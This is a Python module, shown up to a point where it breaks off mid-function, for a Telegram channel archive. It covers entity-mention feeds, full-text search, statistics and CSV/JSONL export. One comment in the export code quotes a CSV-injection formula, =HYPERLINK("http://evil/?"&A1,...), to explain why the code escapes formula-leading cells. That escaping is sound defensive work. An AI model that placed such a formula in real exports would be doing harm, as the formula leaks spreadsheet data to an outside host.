"""Read-only queries over the archive: mentions, full-text search, statistics and exports.

Nothing here writes. Filters are resolved once against the small ``entities`` and ``channels`` tables
(in Python: SQLite's ``lower()`` does not fold Cyrillic), so the big queries filter on ids and use the
indexes. Only the current version of a post and its matches are read.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import AsyncIterator, Iterable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from typing import Any, Literal

from sqlalchemy import ColumnClause, ColumnElement, Integer, Select, and_, cast, func, literal_column, or_, select
from sqlalchemy import table as sa_table
from sqlalchemy.ext.asyncio import AsyncConnection, AsyncEngine

from monitor import fulltext
from monitor import models as m
from monitor.config import parse_channel_ref
from monitor.posts import channel_label, message_link

Period = Literal["day", "week", "month"]
PERIODS: tuple[Period, ...] = ("day", "week", "month")


class ArchiveError(ValueError):
    """A filter or query the archive cannot answer (unknown entity or channel, bad date, bad query)."""


# ---------------------------------------------------------------------------------------------- dates

_RELATIVE = re.compile(r"^(\d+)\s*([hdwm])$")


def parse_when(value: str, *, end: bool = False, now: datetime | None = None) -> datetime:
    """A ``--since``/``--until`` value as aware UTC.

    Accepts ``2025-03-01``, ``2025-03``, ``2025-03-01T10:30`` (UTC unless it carries an offset) and
    relative ``12h``, ``30d``, ``8w``, ``6m`` (ago). With ``end=True`` a date without a time means the
    end of that day (or month): ``--until 2025-03-31`` includes the 31st."""
    text = value.strip()
    rel = _RELATIVE.match(text.lower())
    if rel:
        n, unit = int(rel.group(1)), rel.group(2)
        delta = {"h": timedelta(hours=n), "d": timedelta(days=n), "w": timedelta(weeks=n),
                 "m": timedelta(days=30 * n)}[unit]
        return (now or datetime.now(UTC)) - delta
    try:
        if re.fullmatch(r"\d{4}-\d{2}", text):
            d = date.fromisoformat(text + "-01")
            start = datetime(d.year, d.month, 1, tzinfo=UTC)
            return _add_months(start, 1) if end else start
        if re.fullmatch(r"\d{4}-\d{2}-\d{2}", text):
            d = date.fromisoformat(text)
            start = datetime(d.year, d.month, d.day, tzinfo=UTC)
            return start + timedelta(days=1) if end else start
        dt = datetime.fromisoformat(text.replace("Z", "+00:00"))
    except ValueError:
        raise ArchiveError(f"{value!r} is not a date; use e.g. 2025-03-01, 2025-03, 2025-03-01T10:30 or 30d") from None
    return dt.replace(tzinfo=UTC) if dt.tzinfo is None else dt.astimezone(UTC)


def _add_months(dt: datetime, n: int) -> datetime:
    y, mo = divmod(dt.month - 1 + n, 12)
    return dt.replace(year=dt.year + y, month=mo + 1, day=1)


# -------------------------------------------------------------------------------------------- filters


@dataclass(frozen=True, slots=True)
class Filters:
    """What to look at: entity names/ids, channels (@name, link, title or id), a date range [since, until)."""

    entities: Sequence[str] = ()
    channels: Sequence[str] = ()
    since: datetime | None = None
    until: datetime | None = None


@dataclass(frozen=True, slots=True)
class ResolvedFilters:
    """Filters turned into ids (``None``: no restriction)."""

    entity_ids: list[str] | None
    channel_ids: list[int] | None
    since: datetime | None
    until: datetime | None


async def resolve_filters(conn: AsyncConnection, f: Filters) -> ResolvedFilters:
    """Look up the entities and channels the filters name; ArchiveError names one that is unknown."""
    entity_ids: list[str] | None = None
    if f.entities:
        rows = (await conn.execute(select(m.Entity.id, m.Entity.name))).all()
        by_key: dict[str, str] = {}
        for eid, name in rows:
            by_key[eid.casefold()] = eid
            by_key.setdefault(name.casefold(), eid)
        entity_ids = []
        for want in f.entities:
            wanted = by_key.get(want.strip().casefold())
            if wanted is None:
                known = ", ".join(sorted(n for _, n in rows)[:20]) or "none stored yet"
                raise ArchiveError(f"unknown entity {want!r}; known entities: {known}")
            entity_ids.append(wanted)
    channel_ids: list[int] | None = None
    if f.channels:
        rows2 = (await conn.execute(select(m.Channel.id, m.Channel.username, m.Channel.title, m.Channel.tg_id))).all()
        channel_ids = []
        for want in f.channels:
            found = _find_channel(rows2, want)
            if found is None:
                known = ", ".join(channel_label(u, t, g) for _, u, t, g in rows2[:20]) or "none stored yet"
                raise ArchiveError(f"unknown channel {want!r}; stored channels: {known}")
            channel_ids.append(found)
    if f.since and f.until and f.since >= f.until:
        raise ArchiveError(f"--since {f.since:%Y-%m-%d %H:%M} is not before --until {f.until:%Y-%m-%d %H:%M}")
    return ResolvedFilters(entity_ids, channel_ids, f.since, f.until)


def _find_channel(rows: Sequence[Any], want: str) -> int | None:
    text = want.strip()
    try:
        username, tg_id = parse_channel_ref(text)
    except ValueError:
        username, tg_id = None, None
    for cid, u, _t, g in rows:
        if (tg_id is not None and g == tg_id) or (username and u == username):
            return int(cid)
    for cid, _u, t, _g in rows:  # a title, as exports and private channels are known by
        if t and t.casefold() == text.casefold():
            return int(cid)
    return None


def post_conditions(r: ResolvedFilters) -> list[ColumnElement[bool]]:
    """WHERE conditions on ``posts`` for the channel and date filters."""
    conds: list[ColumnElement[bool]] = []
    if r.channel_ids is not None:
        conds.append(m.Post.channel_id.in_(r.channel_ids))
    if r.since is not None:
        conds.append(m.Post.date >= r.since)
    if r.until is not None:
        conds.append(m.Post.date < r.until)
    return conds


def _mentions_entity(entity_ids: list[str]) -> ColumnElement[bool]:
    """The post's current version mentions one of the entities."""
    return (select(m.Match.id).where(m.Match.post_id == m.Post.id, m.Match.version == m.Post.version,
                                     m.Match.entity_id.in_(entity_ids)).exists())


# ------------------------------------------------------------------------------------------- mentions


@dataclass(frozen=True, slots=True)
class Mention:
    """One stored match: where and when an entity was mentioned, and how it was written."""

    channel: str
    message_id: int
    date: datetime
    entity: str
    entity_id: str
    surface: str
    link: str
    start: int
    end: int
    text: str  # the text the offsets point into (the post, or its link preview for a preview match)
    post_id: int = 0  # the post's row id: with its date and message id, the feed's keyset

    @property
    def key(self) -> PostKey:
        """Where this mention's post sits in the feed: pass it as ``iter_mentions(before=...)`` for the next page."""
        return (self.date, self.message_id, self.post_id)

    @property
    def snippet(self) -> str:
        """About 120 characters of the text around the match, the matched words marked ``**…**``."""
        return fulltext.mark_spans(self.text, [(self.start, self.end)], width=120)

    def as_dict(self) -> dict[str, object]:
        return {"channel": self.channel, "message_id": self.message_id, "date": self.date.isoformat(),
                "entity": self.entity, "surface": self.surface, "link": self.link, "snippet": self.snippet}


PostKey = tuple[datetime, int, int]  # date, message id, post row id: the feed's order, newest first
#: posts a page walks along the date index looking for mentions before it reads the matches themselves
WALK = 3000


def _after_post(k: PostKey) -> ColumnElement[bool]:
    """Posts after ``k`` in the feed's order (date, message id, post id, all descending).

    The leading ``date <= d`` lets the date index do the work; the OR only sorts out equal dates."""
    d, mid, pid = k
    return and_(m.Post.date <= d, or_(m.Post.date < d, and_(m.Post.date == d, m.Post.message_id < mid),
                                      and_(m.Post.date == d, m.Post.message_id == mid, m.Post.id < pid)))


def _match_conditions(r: ResolvedFilters, post_id: Any = m.Post.id, version: Any = m.Post.version
                      ) -> list[ColumnElement[bool]]:
    """Matches of the posts' current versions, of the filtered entities."""
    conds = [m.Match.post_id == post_id, m.Match.version == version]
    if r.entity_ids is not None:
        conds.append(m.Match.entity_id.in_(r.entity_ids))
    return conds


_FEED_ORDER = (m.Post.date.desc(), m.Post.message_id.desc(), m.Post.id.desc())


async def _page_of_posts(conn: AsyncConnection, r: ResolvedFilters, posts: int, before: PostKey | None) -> list[int]:
    """The ids of the next ``posts`` posts holding a mention, in the feed's order.

    A busy feed is found by walking the newest ``WALK`` posts along the date index and keeping those with a
    mention (milliseconds on any archive). When that walk finds too few (an entity or channel named in few
    posts, or the end of the feed), the filtered matches themselves are read and sorted: few, by then."""
    conds = [*post_conditions(r), *([_after_post(before)] if before is not None else [])]
    walk = (select(m.Post.id, m.Post.date, m.Post.message_id, m.Post.version).where(*conds)
            .order_by(*_FEED_ORDER).limit(WALK).cte("walk"))
    found = (select(walk.c.id).where(select(m.Match.id).where(*_match_conditions(r, walk.c.id, walk.c.version))
                                     .exists())
             .order_by(walk.c.date.desc(), walk.c.message_id.desc(), walk.c.id.desc()).limit(posts))
    ids = list((await conn.execute(found)).scalars())
    if len(ids) == posts:
        return ids
    by_matches = (select(m.Post.id).join(m.Match, and_(*_match_conditions(r))).where(*conds)
                  .group_by(m.Post.id, m.Post.date, m.Post.message_id).order_by(*_FEED_ORDER).limit(posts))
    return list((await conn.execute(by_matches)).scalars())


async def iter_mentions(
    engine: AsyncEngine,
    *,
    entities: Sequence[str] = (),
    channels: Sequence[str] = (),
    since: datetime | None = None,
    until: datetime | None = None,
    limit: int | None = None,
    posts: int | None = None,
    before: PostKey | None = None,
) -> AsyncIterator[Mention]:
    """Stored matches of the posts' current versions, newest first (raises ArchiveError on a bad filter).

    ``posts``: only the matches of the next that many posts (a page of a feed, every mention of a post on
    the same page); ``before``: the ``key`` of the last mention shown, the page starts after its post (keyset
    paging: page 1,000 is as fast as page 1)."""
    async with engine.connect() as conn:
        r = await resolve_filters(conn, Filters(entities, channels, since, until))
        q = (
            select(m.Match.surface, m.Match.start, m.Match.end, m.Match.in_preview, m.Entity.name, m.Entity.id,
                   m.Post.id.label("post_id"), m.Post.message_id, m.Post.date, m.Post.text, m.Post.link_preview,
                   m.Channel.username, m.Channel.title, m.Channel.tg_id)
            .join(m.Post, m.Post.id == m.Match.post_id)
            .join(m.Channel, m.Channel.id == m.Post.channel_id)
            .join(m.Entity, m.Entity.id == m.Match.entity_id)
            .where(*_match_conditions(r))
            .order_by(*_FEED_ORDER, m.Match.start, m.Match.entity_id)
        )
        if posts is not None:
            q = q.where(m.Post.id.in_(await _page_of_posts(conn, r, posts, before)))
        else:
            q = q.where(*post_conditions(r))
            if before is not None:
                q = q.where(_after_post(before))
        if limit is not None:
            q = q.limit(limit)
        result = await conn.stream(q.execution_options(yield_per=1000))  # batched: fewer thread hops
        async for row in result:
            yield Mention(
                channel=channel_label(row.username, row.title, row.tg_id), message_id=row.message_id,
                date=row.date, entity=row.name, entity_id=row.id, surface=row.surface,
                link=message_link(row.username, row.tg_id, row.message_id), start=row.start, end=row.end,
                text=(row.link_preview or "") if row.in_preview else row.text, post_id=row.post_id,
            )


async def count_mentions(engine: AsyncEngine, filters: Filters = Filters()) -> int:
    """How many (post, entity) mentions the filters select: a post naming an entity three times is one, as in
    ``stats``. The whole days of the range are read from the ``mention_days`` rollup, only the part days at
    its ends from the matches: the total of a million-post feed costs milliseconds."""
    async with engine.connect() as conn:
        r = await resolve_filters(conn, filters)
        lo, hi = r.since, r.until
        day_lo = lo if lo is None or _midnight(lo) else _day_start(lo) + timedelta(days=1)
        day_hi = hi if hi is None or _midnight(hi) else _day_start(hi)
        if day_lo is not None and day_hi is not None and day_lo >= day_hi:  # no whole day in between
            return await _count_exact(conn, r, lo, hi)
        md = m.MentionDay
        q = select(func.coalesce(func.sum(md.posts), 0))
        if r.entity_ids is not None:
            q = q.where(md.entity_id.in_(r.entity_ids))
        if r.channel_ids is not None:
            q = q.where(md.channel_id.in_(r.channel_ids))
        if day_lo is not None:
            q = q.where(md.day >= day_lo.date())
        if day_hi is not None:
            q = q.where(md.day < day_hi.date())
        total = int((await conn.execute(q)).scalar_one())
        if lo is not None and day_lo is not None and lo < day_lo:
            total += await _count_exact(conn, r, lo, day_lo)
        if hi is not None and day_hi is not None and day_hi < hi:
            total += await _count_exact(conn, r, day_hi, hi)
        return total


def _day_start(dt: datetime) -> datetime:
    return dt.astimezone(UTC).replace(hour=0, minute=0, second=0, microsecond=0)


async def _count_exact(conn: AsyncConnection, r: ResolvedFilters, lo: datetime | None, hi: datetime | None) -> int:
    """(post, entity) mentions of posts dated in [lo, hi), counted from the matches (a part of a day)."""
    part = ResolvedFilters(r.entity_ids, r.channel_ids, lo, hi)
    posts = select(m.Post.id).where(*post_conditions(part))  # the date index first, then each post's matches
    pairs = (select(m.Match.post_id, m.Match.entity_id).join(m.Post, m.Post.id == m.Match.post_id)
             .where(m.Match.post_id.in_(posts), *_match_conditions(part)).distinct().subquery())
    return int((await conn.execute(select(func.count()).select_from(pairs))).scalar_one())


# --------------------------------------------------------------------------------------------- search


@dataclass(frozen=True, slots=True)
class SearchHit:
    """One post found by a full-text query; ``rank`` is higher for better matches."""

    channel: str
    message_id: int
    date: datetime
    rank: float
    snippet: str
    link: str
    text: str = ""  # the whole post, for callers that mark the words their own way (the dashboard)

    def as_dict(self) -> dict[str, object]:
        return {"channel": self.channel, "message_id": self.message_id, "date": self.date.isoformat(),
                "rank": round(self.rank, 6), "snippet": self.snippet, "link": self.link}


# a literal, not a parameter: the GIN index is on this expression
_PG_CONFIG: ColumnClause[Any] = literal_column("'russian'")
_PG_HEADLINE = ('MaxWords=30, MinWords=12, MaxFragments=2, FragmentDelimiter=" … ", '
                "StartSel=**, StopSel=**, HighlightAll=false")


def _pg_tsvector() -> ColumnElement[Any]:
    # the stored, GIN-indexed column of migration 0006: computed once per post, not per query
    return literal_column("posts.search_tsv")


def _pg_word(word: str) -> ColumnElement[Any]:
    """A word in any of its forms: the OR of the stems PostgreSQL gives each form."""
    forms = fulltext.forms_of(word)
    if all(f.isalpha() for f in forms):
        # Most forms share a stem («серной», «серного» … → серн): OR-ing one plainto_tsquery per form gave a
        # 27-term query evaluated against every candidate row. to_tsvector over all the forms yields each
        # distinct stem once; 'simple' keeps those lexemes as they are.
        stems = func.array_to_string(func.tsvector_to_array(func.to_tsvector(_PG_CONFIG, " ".join(forms))), " | ")
        return func.to_tsquery(literal_column("'simple'"), stems)
    q: ColumnElement[Any] = func.plainto_tsquery(_PG_CONFIG, forms[0])
    for form in forms[1:]:
        q = func.tsquery_or(q, func.plainto_tsquery(_PG_CONFIG, form))
    return q


def _pg_item(words: tuple[str, ...]) -> ColumnElement[Any]:
    q = _pg_word(words[0])
    for w in words[1:]:  # a phrase: each word directly followed by the next
        q = func.tsquery_phrase(q, _pg_word(w))
    return q


def pg_tsquery(parsed: fulltext.ParsedQuery) -> ColumnElement[Any]:
    """The tsquery of a parsed query (the functions behind the ``&&``, ``||``, ``!!`` and ``<->`` operators):
    included items AND-ed, excluded ones AND NOT-ed."""
    q = _pg_item(parsed.include[0])
    for item in parsed.include[1:]:
        q = func.tsquery_and(q, _pg_item(item))
    for item in parsed.exclude:
        q = func.tsquery_and(q, func.tsquery_not(_pg_item(item)))
    return q


def _parse_search(query: str) -> fulltext.ParsedQuery:
    try:
        return fulltext.parse_query(query)
    except fulltext.QueryError as exc:
        raise ArchiveError(str(exc)) from None


_FTS_REF: ColumnClause[Any] = literal_column("posts_fts")


def _found_posts(sqlite: bool, parsed: fulltext.ParsedQuery, r: ResolvedFilters, *cols: Any) -> Select[Any]:
    """``SELECT cols`` over the posts the query finds, within the filters (no order, no channel join)."""
    if sqlite:
        q = (select(*cols).select_from(sa_table("posts_fts", literal_column("rowid")))
             .join(m.Post, m.Post.id == literal_column("posts_fts.rowid"))
             .where(_FTS_REF.op("MATCH")(fulltext.fts5_query(parsed))))
    else:
        q = select(*cols).select_from(m.Post).where(_pg_tsvector().op("@@")(pg_tsquery(parsed)))
    q = q.where(*post_conditions(r))
    if r.entity_ids is not None:
        q = q.where(_mentions_entity(r.entity_ids))
    return q


async def count_search(engine: AsyncEngine, query: str, *, filters: Filters = Filters()) -> int:
    """How many posts ``iter_search`` would find (the total a results page shows)."""
    parsed = _parse_search(query)
    async with engine.connect() as conn:
        r = await resolve_filters(conn, filters)
        q = _found_posts(engine.dialect.name == "sqlite", parsed, r, func.count())
        return int((await conn.execute(q)).scalar_one())


async def iter_search(
    engine: AsyncEngine,
    query: str,
    *,
    filters: Filters = Filters(),
    limit: int | None = None,
    offset: int = 0,
) -> AsyncIterator[SearchHit]:
    """Posts matching ``query`` (words in any form, ``"phrases"``, ``-exclusions``), best first.

    ``offset`` skips the first hits (a ranked list has no keyset: pages of it stay short).
    On SQLite the FTS5 index must be complete: call :func:`monitor.fulltext.build_index` first if
    :func:`monitor.fulltext.pending` says rows are waiting (``tgmonitor search`` does)."""
    parsed = _parse_search(query)
    async with engine.connect() as conn:
        r = await resolve_filters(conn, filters)
        sqlite = engine.dialect.name == "sqlite"
        cols = (m.Post.message_id, m.Post.date, m.Post.text, m.Channel.username, m.Channel.title, m.Channel.tg_id)
        if sqlite:
            bm25 = func.bm25(_FTS_REF)
            q = _found_posts(True, parsed, r, *cols, (-bm25).label("rank")).order_by(bm25, m.Post.date.desc())
        else:
            tsq = pg_tsquery(parsed)
            rank = func.ts_rank_cd(_pg_tsvector(), tsq)
            q = (_found_posts(False, parsed, r, *cols, rank.label("rank"),
                              func.ts_headline(_PG_CONFIG, m.Post.text, tsq, _PG_HEADLINE).label("headline"))
                 .order_by(rank.desc(), m.Post.date.desc()))
        q = q.join(m.Channel, m.Channel.id == m.Post.channel_id)
        if limit is not None:
            q = q.limit(limit)
        if offset:
            q = q.offset(offset)
        result = await conn.stream(q.execution_options(yield_per=1000))  # batched: fewer thread hops
        words = parsed.words
        async for row in result:
            if sqlite:
                snippet = fulltext.mark_snippet(row.text, words)
            else:
                snippet = " ".join(str(row.headline).split())
            yield SearchHit(
                channel=channel_label(row.username, row.title, row.tg_id), message_id=row.message_id,
                date=row.date, rank=float(row.rank or 0.0), snippet=snippet,
                link=message_link(row.username, row.tg_id, row.message_id), text=row.text,
            )


# ---------------------------------------------------------------------------------------------- stats


@dataclass(slots=True)
class EntityStats:
    """One entity's posts per period (aligned with ``Stats.periods``) and per channel (most first)."""

    entity: str
    entity_id: str
    total: int
    series: list[int]
    channels: list[tuple[str, int]]

    def peak(self, periods: Sequence[date]) -> tuple[date | None, int]:
        if not self.series or not any(self.series):
            return None, 0
        i = max(range(len(self.series)), key=self.series.__getitem__)
        return periods[i], self.series[i]


@dataclass(slots=True)
class StatsRow:
    """The finest grain: posts of one channel mentioning one entity in one period."""

    period: date
    entity: str
    entity_id: str
    channel: str
    mentions: int


@dataclass(slots=True)
class Stats:
    """Posts mentioning each entity, per period and per channel.

    A post that names an entity three times counts once; ``rows`` has every non-zero
    (period, entity, channel) count, ``entities`` the per-entity series (zero-filled) and channels."""

    by: Period
    periods: list[date]
    entities: list[EntityStats] = field(default_factory=list)
    rows: list[StatsRow] = field(default_factory=list)

    def as_dict(self) -> dict[str, object]:
        return {
            "by": self.by,
            "since": self.periods[0].isoformat() if self.periods else None,
            "until": self.periods[-1].isoformat() if self.periods else None,
            "periods": [p.isoformat() for p in self.periods],
            "entities": [
                {"entity": e.entity, "entity_id": e.entity_id, "total": e.total,
                 "series": [{"period": p.isoformat(), "mentions": n} for p, n in zip(self.periods, e.series,
                                                                                     strict=True)],
                 "channels": [{"channel": c, "mentions": n} for c, n in e.channels]}
                for e in self.entities
            ],
        }


def _bucket_sql(dialect: str, by: Period) -> ColumnElement[Any]:
    """The period a post falls in, as 'YYYY-MM-DD' text (UTC; weeks start on Monday)."""
    if dialect == "sqlite":
        # SQLite keeps UTC as 'YYYY-MM-DD HH:MM:SS.ffffff' text
        if by == "day":
            return func.substr(m.Post.date, 1, 10)
        if by == "month":
            return func.substr(m.Post.date, 1, 7).concat("-01")
        # strftime('%w'): 0 = Sunday; step back to Monday
        back = (cast(func.strftime("%w", m.Post.date), Integer) + 6) % 7
        return func.date(m.Post.date, func.printf("-%d days", back))
    # constants inline, not bound: PostgreSQL must see the SELECT and GROUP BY expressions as equal
    utc = m.Post.date.op("AT TIME ZONE")(literal_column("'UTC'"))
    return func.to_char(func.date_trunc(literal_column(f"'{by}'"), utc), literal_column("'YYYY-MM-DD'"))


def period_start(d: date, by: Period) -> date:
    """The first day of the period ``d`` falls in."""
    if by == "day":
        return d
    if by == "week":
        return d - timedelta(days=d.weekday())
    return d.replace(day=1)


def next_period(d: date, by: Period) -> date:
    if by == "day":
        return d + timedelta(days=1)
    if by == "week":
        return d + timedelta(days=7)
    return (d.replace(day=1) + timedelta(days=32)).replace(day=1)


def _midnight(dt: datetime | None) -> bool:
    return dt is None or (dt.hour, dt.minute, dt.second, dt.microsecond) == (0, 0, 0, 0)


async def stats(
    engine: AsyncEngine,
    *,
    filters: Filters = Filters(),
    by: Period = "day",
    top_channels: int = 5,
    with_rows: bool = True,
    exact: bool = False,
) -> Stats:
    """Posts mentioning each entity per ``by`` period and per channel over the filters' range.

    Without ``since``/``until`` the range runs from the first to the last mention found. Whole-day
    ranges read the ``mention_days`` rollup (fast on any archive); a range with a time of day, or
    ``exact=True``, counts from the matches themselves. ``with_rows=False`` skips the finest grain
    (``Stats.rows``, needed only for CSV)."""
    if by not in PERIODS:
        raise ArchiveError(f"--by must be one of {', '.join(PERIODS)}, not {by!r}")
    series: dict[tuple[str, date], int] = {}
    per_channel: dict[tuple[str, int], int] = {}
    fine: dict[tuple[date, str, int], int] = {}
    async with engine.connect() as conn:
        r = await resolve_filters(conn, filters)
        if exact or not (_midnight(r.since) and _midnight(r.until)):
            bucket = _bucket_sql(engine.dialect.name, "day").label("bucket")
            q = (select(m.Match.entity_id, bucket, m.Post.channel_id, func.count(func.distinct(m.Match.post_id)))
                 .join(m.Post, m.Post.id == m.Match.post_id)
                 .where(m.Match.version == m.Post.version, *post_conditions(r))
                 .group_by(m.Match.entity_id, bucket, m.Post.channel_id))
            if r.entity_ids is not None:
                q = q.where(m.Match.entity_id.in_(r.entity_ids))
            for eid, b, cid, n in (await conn.execute(q)).all():
                p = period_start(date.fromisoformat(str(b)[:10]), by)
                series[(eid, p)] = series.get((eid, p), 0) + n
                per_channel[(eid, cid)] = per_channel.get((eid, cid), 0) + n
                if with_rows:
                    fine[(p, eid, cid)] = fine.get((p, eid, cid), 0) + n
        else:
            md = m.MentionDay
            conds: list[ColumnElement[bool]] = [md.posts > 0]
            if r.entity_ids is not None:
                conds.append(md.entity_id.in_(r.entity_ids))
            if r.channel_ids is not None:
                conds.append(md.channel_id.in_(r.channel_ids))
            if r.since is not None:
                conds.append(md.day >= r.since.date())
            if r.until is not None:
                conds.append(md.day < r.until.date())
            total = func.sum(md.posts)
            for eid, d, n in (await conn.execute(select(md.entity_id, md.day, total).where(*conds)
                                                 .group_by(md.entity_id, md.day))).all():
                p = period_start(d, by)
                series[(eid, p)] = series.get((eid, p), 0) + int(n)
            for eid, cid, n in (await conn.execute(select(md.entity_id, md.channel_id, total).where(*conds)
                                                   .group_by(md.entity_id, md.channel_id))).all():
                per_channel[(eid, cid)] = int(n)
            if with_rows:
                starts: dict[date, date] = {}  # a year holds 366 days but ~70,000 (day, entity, channel) rows
                for eid, d, cid, n in (await conn.execute(select(md.entity_id, md.day, md.channel_id, md.posts)
                                                          .where(*conds))).all():
                    start = starts.get(d)
                    if start is None:
                        start = starts[d] = period_start(d, by)
                    key = (start, eid, cid)
                    fine[key] = fine.get(key, 0) + n
        names = dict((await conn.execute(select(m.Entity.id, m.Entity.name))).all())
        labels = {cid: channel_label(u, t, g) for cid, u, t, g in
                  (await conn.execute(select(m.Channel.id, m.Channel.username, m.Channel.title,
                                             m.Channel.tg_id))).all()}
    first = period_start(r.since.date(), by) if r.since else min((p for _, p in series), default=None)
    last = (period_start((r.until - timedelta(microseconds=1)).date(), by) if r.until
            else max((p for _, p in series), default=None))
    periods: list[date] = []
    if first is not None and last is not None:
        p = first
        while p <= last:
            periods.append(p)
            p = next_period(p, by)
    index = {p: i for i, p in enumerate(periods)}
    per_entity: dict[str, EntityStats] = {}
    for eid in [e for e, _ in series] + list(r.entity_ids or []):
        # entities asked for by name stay even with no mention: "zero" is an answer
        if eid not in per_entity:
            per_entity[eid] = EntityStats(names.get(eid, eid), eid, 0, [0] * len(periods), [])
    for (eid, p), n in series.items():
        e = per_entity[eid]
        e.total += n
        if p in index:
            e.series[index[p]] += n
    chans: dict[str, list[tuple[str, int]]] = {}
    for (eid, cid), n in per_channel.items():
        chans.setdefault(eid, []).append((labels.get(cid, str(cid)), n))
    for eid, e in per_entity.items():
        e.channels = sorted(chans.get(eid, []), key=lambda kv: (-kv[1], kv[0]))[:top_channels]
    rows = [StatsRow(p, names.get(eid, eid), eid, labels.get(cid, str(cid)), n) for (p, eid, cid), n in fine.items()]
    rows.sort(key=lambda x: (x.period, x.entity, -x.mentions, x.channel))
    ordered = sorted(per_entity.values(), key=lambda e: (-e.total, e.entity))
    return Stats(by=by, periods=periods, entities=ordered, rows=rows)


SPARK = "▁▂▃▄▅▆▇█"


def sparkline(values: Sequence[int], width: int = 60) -> str:
    """A text sparkline; longer series are summed into ``width`` buckets. Zero is a space-like ▁."""
    if not values:
        return ""
    vals = list(values)
    if len(vals) > width:
        step = len(vals) / width
        vals = [sum(vals[int(i * step):int((i + 1) * step)]) for i in range(width)]
    top = max(vals)
    if top <= 0:
        return SPARK[0] * len(vals)
    return "".join(SPARK[0] if v <= 0 else SPARK[min(len(SPARK) - 1, 1 + (v * (len(SPARK) - 2)) // top)]
                   for v in vals)


# --------------------------------------------------------------------------------------------- export


@dataclass(frozen=True, slots=True)
class ExportMatch:
    entity: str
    entity_id: str
    start: int
    end: int
    surface: str
    in_preview: bool


@dataclass(frozen=True, slots=True)
class ExportRow:
    """One post with its current text and matches."""

    channel: str
    message_id: int
    date: datetime
    edit_date: datetime | None
    views: int | None
    forwards: int | None
    forwarded_from: str | None
    deleted: bool
    version: int
    link: str
    text: str
    matches: tuple[ExportMatch, ...]

    @property
    def entities(self) -> list[str]:
        """Entity names in order of first appearance, each once."""
        return list(dict.fromkeys(mt.entity for mt in self.matches))

    def as_dict(self) -> dict[str, object]:
        return {
            "channel": self.channel, "message_id": self.message_id, "date": self.date.isoformat(),
            "edit_date": self.edit_date.isoformat() if self.edit_date else None, "views": self.views,
            "forwards": self.forwards, "forwarded_from": self.forwarded_from, "deleted": self.deleted,
            "version": self.version, "link": self.link, "text": self.text, "entities": self.entities,
            "matches": [{"entity": mt.entity, "entity_id": mt.entity_id, "start": mt.start, "end": mt.end,
                         "surface": mt.surface, "in_preview": mt.in_preview} for mt in self.matches],
        }


EXPORT_CSV_FIELDS = ("channel", "message_id", "date", "edit_date", "views", "forwards", "forwarded_from",
                     "deleted", "link", "entities", "surfaces", "text")


def export_csv_row(row: ExportRow) -> list[object]:
    """The CSV cells of a post (entities and surfaces joined with ``; ``)."""
    return [row.channel, row.message_id, row.date.isoformat(), row.edit_date.isoformat() if row.edit_date else "",
            "" if row.views is None else row.views, "" if row.forwards is None else row.forwards,
            row.forwarded_from or "", "yes" if row.deleted else "", row.link, "; ".join(row.entities),
            "; ".join(dict.fromkeys(mt.surface for mt in row.matches)), row.text]


# A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with one of these as a
# formula: =HYPERLINK("http://evil/?"&A1,"click") in a post would leak the sheet or run a DDE command.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# ...except a bare @username (Telegram's letters, digits and _), our channel label: it cannot call a
# function or reach the network, and a quote in front of every channel would spoil the column.
_USERNAME = re.compile(r"@[A-Za-z][A-Za-z0-9_]{2,31}")


def spreadsheet_safe(cell: object) -> object:
    """A CSV cell that a spreadsheet shows as text: a text cell starting with ``= + - @``, a tab or a
    carriage return gets a leading ``'`` (numbers and a plain ``@username`` are left alone)."""
    if isinstance(cell, str) and cell.startswith(_FORMULA_START) and not _USERNAME.fullmatch(cell):
        return "'" + cell
    return cell


def csv_line(cells: Iterable[object]) -> str:
    """One CSV record without its line end (the caller adds "\\n"); text cells are ``spreadsheet_safe``.

    Written with a "\\r\\n" terminator so that the writer quotes any field holding "\\n" or "\\r"
    (with no terminator it would leave a bare newline in an unquoted field and break the row)."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerow([spreadsheet_safe(c) for c in cells])
    return buf.getvalue()[:-2]


EXPORT_FORMATS = ("csv", "jsonl")


async def export_lines(rows: AsyncIterator[ExportRow], fmt: str) -> AsyncIterator[str]:
    """The lines of ``tgmonitor export`` (without line ends): a CSV header and one row per post, or one
    JSON object per post. The CLI and the dashboard's export buttons both write these."""
    if fmt not in EXPORT_FORMATS:
        raise ArchiveError(f"export format must be one of {', '.join(EXPORT_FORMATS)}, not {fmt!r}")
    if fmt == "csv":
        yield csv_line(EXPORT_CSV_FIELDS)
    async for row in rows:
        yield csv_line(export_csv_row(row)) if fmt == "csv" else json.dumps(row.as_dict(), ensure_ascii=False)


async def iter_export(
    engine: AsyncEngine,
    *,
    filters: Filters = Filters(),
    matched_only: bool = False,
    chunk: int = 1000,
) -> AsyncIterator[ExportRow]:
    """Posts (oldest first) with their matches; with entity filters only posts mentioning them.

    Reads in keyset-paginated chunks, so a huge export holds one chunk in memory at a time."""
    async with engine.connect() as conn:
        r = await resolve_filters(conn, filters)
        names = dict((await conn.execute(select(m.Entity.id, m.Entity.name))).all())
        labels = {cid: (u, t, g) for cid, u, t, g in
                  (await conn.execute(select(m.Channel.id, m.Channel.username, m.Channel.title,
                                             m.Channel.tg_id))).all()}
        base = select(m.Post.id, m.Post.channel_id, m.Post.message_id, m.Post.date, m.Post.edit_date,
                      m.Post.views, m.Post.forwards, m.Post.fwd_name, m.Post.deleted, m.Post.version,
                      m.Post.text).where(*post_conditions(r)).order_by(m.Post.date, m.Post.id).limit(chunk)
        if r.entity_ids is not None:
            base = base.where(_mentions_entity(r.entity_ids))
        elif matched_only:
            base = base.where(select(m.Match.id).where(m.Match.post_id == m.Post.id,
                                                       m.Match.version == m.Post.version).exists())
        after: tuple[datetime, int] | None = None
        while True:
            q = base if after is None else base.where(
                or_(m.Post.date > after[0], and_(m.Post.date == after[0], m.Post.id > after[1])))
            posts = (await conn.execute(q)).all()
            if not posts:
                return
            # matches only for this chunk; filtered to the current versions in Python
            versions = {p.id: p.version for p in posts}
            found: dict[int, list[ExportMatch]] = {}
            mq = (select(m.Match.post_id, m.Match.entity_id, m.Match.start, m.Match.end, m.Match.surface,
                         m.Match.version, m.Match.in_preview).where(m.Match.post_id.in_(list(versions)))
                  .order_by(m.Match.post_id, m.Match.in_preview, m.Match.start))
